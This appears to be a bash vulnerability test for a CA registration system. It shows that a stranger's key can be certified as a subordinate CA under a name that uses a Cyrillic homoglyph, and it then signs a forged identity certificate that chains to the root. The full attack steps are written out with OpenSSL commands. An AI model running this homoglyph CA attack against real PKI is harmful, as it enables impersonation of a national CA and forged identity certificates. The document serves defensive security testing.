#!/usr/bin/env bash
# ROOT-ISSUE: a stranger's key certified as a CA under a name that prints exactly as the register's national CA
# ("Attack Sub CA" with a Cyrillic А), pathlen 0, chaining to the root. The same-name rules (case-folded, spaces
# collapsed, chain comparison) see another name; the person-name rule of one alphabet per word is not applied to
# CA names. Exit 0 = vulnerable.
NAME=homoglyph-ca; . "$(dirname "$0")/common.sh"
setup_sub >/dev/null || { echo setup failed; cat $W/err; exit 1; }
as admin ca set --code ROOT cdp_url=http://crl.example.kz/ROOT.crl aia_url=http://ca.example.kz/ROOT.cer || { show $?; exit 1; }
TODAY=$(TZ=Asia/Almaty date +%F)
rootissue() { # CA_NAME -> APP approved
cat >$W/ra.json <<J
{"country":"KZ","region":"Astana","city":"Astana","org_name":"Some LLP","ca_name":"$1","email":"ca@example.kz",
 "usage":["subordinate_ca"],"validity":"5y","application_date":"$TODAY","head_full_name":"Head Person"}
J
as op application submit --ca ROOT --form ROOT-ISSUE --data $W/ra.json --attachments accreditation_certificate_copy --consent --json || { show $?; return 1; }
APP=$(jget id); as off2 application approve $APP || { show $?; return 1; }
}
rootissue "Attack Sub CA" || exit 1
step "genuine SUB certified" as off1 certificate issue --application $APP --csr $W/sub.csr --out $W/sub.pem --ca-passphrase-file $W/ca.pass
step "imported" as admin ca import-cert --code SUB --cert $W/sub.pem
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $W/evil.key -subj "/CN=x" -out $W/evil.csr 2>/dev/null
rootissue "Attack Sub CA" || exit 1
step "stranger's key under the exact name (refused: the rule)" as off1 certificate issue --application $APP --csr $W/evil.csr --out $W/evil0.pem --ca-passphrase-file $W/ca.pass
rootissue "$(printf 'Att\xd0\xb0ck Sub CA')" || { echo "HELD at registration"; exit 1; }
step "stranger's key under 'Attаck Sub CA' (Cyrillic а)" as off1 certificate issue --application $APP --csr $W/evil.csr --out $W/evil.pem --ca-passphrase-file $W/ca.pass
rc=$?
[ $rc -eq 0 ] || exit 1
echo "   genuine: $(openssl x509 -in $W/sub.pem -noout -subject -ext basicConstraints | tr '\n' ' ')"
echo "   evil:    $(openssl x509 -in $W/evil.pem -noout -subject -ext basicConstraints | tr '\n' ' ')"
# the stranger signs a holder certificate as "Attаck Sub CA"
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $W/v.key -subj "/CN=VICTIM/serialNumber=IIN900701300108/C=KZ" -out $W/v.csr 2>/dev/null
openssl x509 -req -in $W/v.csr -CA $W/evil.pem -CAkey $W/evil.key -CAcreateserial -days 30 -out $W/v.pem 2>/dev/null
echo "   chain of a certificate the stranger made: $(openssl verify -CAfile $W/root.pem -untrusted $W/evil.pem $W/v.pem 2>&1 | tr '\n' ' ')"
exit 0
